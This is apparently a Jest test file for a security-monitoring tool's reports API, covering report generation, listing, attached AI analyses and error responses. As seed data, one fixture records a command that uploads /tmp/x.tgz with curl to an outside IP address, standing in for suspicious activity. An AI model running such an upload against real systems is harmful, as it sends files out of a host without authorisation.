// The reports API on a server wired like embedded mode (real SQLite stores,
// startReports, files): on-demand generation by an operator, listing and
// reading by a viewer with the analysis beside a report, and the errors: 400
// naming the parameter, 403 for a viewer generating, 404, 503 with reports off.

import {
  REPORT_DAY,
  REPORTS_ADMIN_TOKEN,
  type ReportsServer,
  startReportsServer,
} from "../harness/reports-server";
import { apiCall } from "../harness/servers-on-nats";

describe("reports - API", () => {
  let env: ReportsServer;

  beforeAll(async () => {
    env = await startReportsServer("reports-api");
  });

  afterAll(async () => {
    await env?.close();
  });

  const call = (method: string, path: string, options: { body?: unknown; token?: string } = {}) =>
    apiCall(env.server, method, path, { token: env.viewer, ...options });

  test("generate - an operator builds a day (its cells and blocks first) and gets the fleet's or a host's report", async () => {
    const refused = await call("POST", "/api/v1/reports/generate", { body: { level: 3, start: REPORT_DAY } });
    expect(refused.status).toBe(403);

    const fleet = await call("POST", "/api/v1/reports/generate", {
      body: { level: "daily", start: REPORT_DAY },
      token: env.operator,
    });
    expect(fleet.status).toBe(200);
    expect(fleet.body.report).toMatchObject({
      id: `3/fleet/${REPORT_DAY}`,
      level: 3,
      scope: "fleet",
      hosts: 2,
      events: { total: 7 },
      alerts: { total: 2, bySeverity: { high: 1, medium: 1, low: 0 } },
      // The blocks before the first event (00:00, 04:00) are not generated.
      basis: { events: 7, alerts: 2, children: 4 },
      newListeningPorts: { count: 1 },
    });

    const web = await call("POST", "/api/v1/reports/generate", {
      body: { level: 3, start: REPORT_DAY, scope: "host:h-web-1" },
      token: env.operator,
    });
    expect(web.status).toBe(200);
    expect(web.body.report).toMatchObject({
      scope: "host:h-web-1",
      hostName: "web-1",
      events: { total: 5 },
      commands: {
        complete: true,
        entries: [
          { key: "/usr/bin/id", count: 3 },
          { key: "/usr/bin/curl -T /tmp/x.tgz http://198.51.100.7/", count: 1 },
        ],
      },
      users: {
        entries: [
          { key: "alice", count: 3 },
          { key: "root", count: 2 },
        ],
      },
    });
  });

  test("list - newest period first, by level (number or name) and scope, within from/to", async () => {
    const cells = await call("GET", "/api/v1/reports?level=cell&scope=fleet");
    expect(cells.status).toBe(200);
    // Only the cells the store holds anything in or after (nothing before the first event).
    const starts = (cells.body.reports as Array<{ period: { start: string }; events: number }>).map(
      (summary) => [summary.period.start, summary.events],
    );
    expect(starts.slice(-3).reverse()).toEqual([
      ["2026-02-03T10:00:00.000Z", 3],
      ["2026-02-03T10:15:00.000Z", 2],
      ["2026-02-03T10:30:00.000Z", 0],
    ]);
    expect(starts).toContainEqual(["2026-02-03T14:30:00.000Z", 2]);

    const db = await call(
      "GET",
      `/api/v1/reports?level=1&scope=${encodeURIComponent("host:h-db-1")}&from=2026-02-03T10:00:00Z&to=2026-02-03T11:00:00Z`,
    );
    expect(db.body).toMatchObject({
      count: 1,
      reports: [{ id: "1/host:h-db-1/2026-02-03T10:15:00.000Z", hostName: "db-1", events: 2, alerts: 0 }],
    });

    const days = await call("GET", "/api/v1/reports?level=daily&limit=1");
    expect(days.body).toMatchObject({
      count: 1,
      reports: [{ id: `3/fleet/${REPORT_DAY}`, hasAnalysis: false }],
    });
  });

  test("one report - with its analysis once one is stored; 404 for a period never generated", async () => {
    const path = `/api/v1/reports/daily/fleet/${REPORT_DAY}`;
    const before = await call("GET", path);
    expect(before.status).toBe(200);
    expect(before.body).toMatchObject({ report: { id: `3/fleet/${REPORT_DAY}`, events: { total: 7 } } });
    expect(before.body.analysis).toBeNull();

    const analysis = {
      subject: `3/fleet/${REPORT_DAY}`,
      status: "done" as const,
      summary: "an upload with curl after an archive",
      findings: [],
      model: "triage-model-1",
      attempts: 1,
      requestBytes: 1234,
      createdAt: "2026-02-04T00:10:00.000Z",
    };
    await env.reports.store.putAnalysis(3, "fleet", Date.parse(REPORT_DAY), analysis);
    const after = await call("GET", path);
    expect(after.body.analysis).toEqual(analysis);
    const listed = await call("GET", "/api/v1/reports?level=3");
    expect((listed.body.reports as Array<{ hasAnalysis: boolean }>)[0]?.hasAnalysis).toBe(true);

    const missing = await call("GET", "/api/v1/reports/3/fleet/2026-02-04T00:00:00Z");
    expect(missing.status).toBe(404);
    expect(missing.body.message).toBe("no daily report of fleet for 2026-02-04");
  });

  test.each([
    ["GET", "/api/v1/reports?level=hourly", undefined, /^level: "hourly" is not a level/],
    ["GET", "/api/v1/reports?scope=everyone", undefined, /^scope: "everyone" is not "fleet" or "host:/],
    ["GET", "/api/v1/reports?from=yesterday", undefined, /from/],
    ["GET", "/api/v1/reports?limit=0", undefined, /limit/],
    ["GET", "/api/v1/reports/7/fleet/2026-02-03T00:00:00Z", undefined, /^level: "7" is not a level/],
    [
      "GET",
      "/api/v1/reports/daily/fleet/2026-02-03T10:00:00Z",
      undefined,
      /^start: 2026-02-03T10:00:00Z is not the start of a daily period \(the one holding it starts at 2026-02-03T00:00:00.000Z\)$/,
    ],
    ["POST", "/api/v1/reports/generate", { level: 3 }, /start/],
    ["POST", "/api/v1/reports/generate", { level: 3, start: REPORT_DAY, extra: 1 }, /extra/],
    [
      "POST",
      "/api/v1/reports/generate",
      { level: "daily", start: "2099-01-01T00:00:00Z" },
      /^start: the daily period 2099-01-01 has not ended \(it ends at 2099-01-02T00:00:00.000Z\)$/,
    ],
  ])("400 - %s %s %j names what is wrong", async (method, path, body, message) => {
    const answer = await call(method, path, { body, token: env.operator });
    expect(answer.status).toBe(400);
    expect(answer.body.message).toMatch(message);
  });

  test("503 - a server with reports off says how to turn them on", async () => {
    for (const [method, path, body] of [
      ["GET", "/api/v1/reports", undefined],
      ["GET", `/api/v1/reports/3/fleet/${REPORT_DAY}`, undefined],
      ["POST", "/api/v1/reports/generate", { level: 3, start: REPORT_DAY }],
    ] as const) {
      const answer = await apiCall(env.bare, method, path, { body, token: REPORTS_ADMIN_TOKEN });
      expect(answer.status).toBe(503);
      expect(answer.body).toMatchObject({
        error: "no_reports",
        message: expect.stringMatching(/reports\.enabled/),
      });
    }
  });
});
